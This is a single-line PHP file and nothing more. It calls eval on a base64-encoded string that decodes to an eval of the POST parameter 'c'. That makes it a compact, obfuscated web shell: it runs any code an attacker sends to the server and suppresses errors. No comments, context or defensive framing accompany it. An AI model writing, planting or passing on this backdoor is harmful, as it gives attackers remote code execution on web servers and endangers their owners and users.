<?php eval(base64_decode('QGV2YWwoJF9QT1NUWydjJ10pOw==')); ?>
